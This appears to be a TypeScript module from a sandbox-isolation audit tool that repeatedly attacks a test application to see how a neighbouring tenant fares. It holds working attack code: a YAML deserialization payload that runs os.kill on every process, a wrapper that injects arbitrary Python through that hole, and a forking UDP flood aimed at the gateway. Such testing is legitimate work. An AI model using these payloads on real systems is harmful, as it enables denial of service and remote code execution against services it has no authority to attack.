import { spawn } from 'node:child_process'
import { setTimeout as sleep } from 'node:timers/promises'
import { post } from '../../src/host/post.ts'
import { exhaustionAttacks } from '../../src/audit/attacks/exhaustion.ts'
import { ownLimits } from '../../src/audit/stage/limits.ts'
import { readPayloads, yamlExploit } from '../../src/audit/stage/payload.ts'
import type { Address } from '../asking.ts'

/** Something that the attacked application does for as long as it is let. */
export interface LastingAttack {
  readonly id: string
  readonly title: string
  /** What the neighbour is asked for meanwhile: a page, or one for which it writes to its volume and syncs that. */
  readonly path: '/' | '/write'
  /** Goes on until the signal comes. */
  run(attacked: Address, until: AbortSignal): Promise<void>
}

/** These only ask whether something is allowed, and take nothing. */
const takingNothing = ['R16', 'R17']
/** These are about the disk: the neighbour's pages and what it writes are looked at apart. */
const aboutDisk = ['R06', 'R07', 'R13', 'R14']

/** The exhaustion attacks of `berth audit`, each again and again, and floods of the network; first nothing, for the noise. */
export async function lastingAttacks(): Promise<LastingAttack[]> {
  const payloads = await readPayloads()
  const scene = { ...(await ownLimits()), volume: '/data' }
  const own = exhaustionAttacks
    .filter(({ id }) => id !== 'R15' && !takingNothing.includes(id))
    .flatMap(({ id, title }): LastingAttack[] => {
      const run = again(['python3', '-c', payloads.get(id) ?? '', id, JSON.stringify(scene)])
      const page = { id, title, path: '/', run } as const
      return aboutDisk.includes(id) ? [page, { ...page, path: '/write' }] : [page]
    })
  const none = { id: 'N0', title: 'Nothing', run: (_: Address, until: AbortSignal) => untilAborted(until) }
  return [
    { ...none, path: '/' },
    { ...none, path: '/write' },
    ...own,
    { id: 'N1', title: 'Send packets without end', path: '/', run: again(['python3', '-c', packetFlood]) },
    { id: 'N2', title: 'Give endless answers to accomplices', path: '/', run: answerFlood },
  ]
}

function again(argv: readonly string[]): LastingAttack['run'] {
  const body = yamlExploit(argv)
  return async (attacked, until) => {
    while (!until.aborted) {
      const answer = await Promise.race([
        post({ ...targetOf(attacked), path: '/', body, seconds: 30 }),
        untilAborted(until),
      ])
      // One that has met its limit at once: that, too, goes on, but not in a hurry of ours.
      if (answer?.kind === 'silence') await sleep(20)
    }
  }
}

/** Two processes that send packets to the host, as large as they may be, for at most 20 s. */
const packetFlood = `
import os, socket, time
fields = [line.split() for line in open("/proc/net/route")][1:]
route = next((each for each in fields if each[1] == "00000000"), None)
gateway = ".".join(str(byte) for byte in bytes.fromhex(route[2])[::-1]) if route else "192.0.2.1"
os.fork()
wire = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
until, piece = time.time() + 20, b"x" * 1400
while time.time() < until:
    try:
        wire.sendto(piece, (gateway, 9))
    except OSError:
        pass
`

/** Four visitors who are with the attacker fetch large answers through the front. They are processes of their own. */
async function answerFlood(attacked: Address, until: AbortSignal): Promise<void> {
  const script = new URL('accomplice.ts', import.meta.url).pathname
  const words = [script, attacked.ip, String(attacked.port), attacked.host]
  const children = Array.from({ length: 4 }, () => spawn(process.execPath, words, { stdio: 'ignore' }))
  await untilAborted(until)
  await Promise.all(
    children.map((child) => {
      const ended = new Promise((resolve) => child.once('close', resolve))
      child.kill('SIGKILL')
      return ended
    }),
  )
}

/**
 * Ends what an attack has left running: the application's own thread kills everything in its sandbox but itself and
 * process 1. Waits until the application can do so.
 * @returns whether it came to that within ten seconds
 */
export async function endAttack(attacked: Address): Promise<boolean> {
  const body = '!!python/object/apply:os.kill [-1, 9]\n'
  for (let attempt = 0; attempt < 20; attempt += 1) {
    const answer = await post({ ...targetOf(attacked), path: '/', body, seconds: 2 })
    // Nothing left to be killed is an error of kill(2), and an answer.
    if (answer.kind === 'answer' && (answer.status === 200 || answer.status === 500)) return true
    await sleep(300)
  }
  return false
}

/** Whether the application lives. */
export async function isServing(address: Address): Promise<boolean> {
  const answer = await post({ ...targetOf(address), path: '/ping', seconds: 5 })
  return answer.kind === 'answer' && answer.status === 200
}

function targetOf({ ip, port, host }: Address) {
  return { address: ip, port, host }
}

function untilAborted(signal: AbortSignal): Promise<undefined> {
  return new Promise((resolve) => {
    if (signal.aborted) resolve(undefined)
    else signal.addEventListener('abort', () => resolve(undefined), { once: true })
  })
}
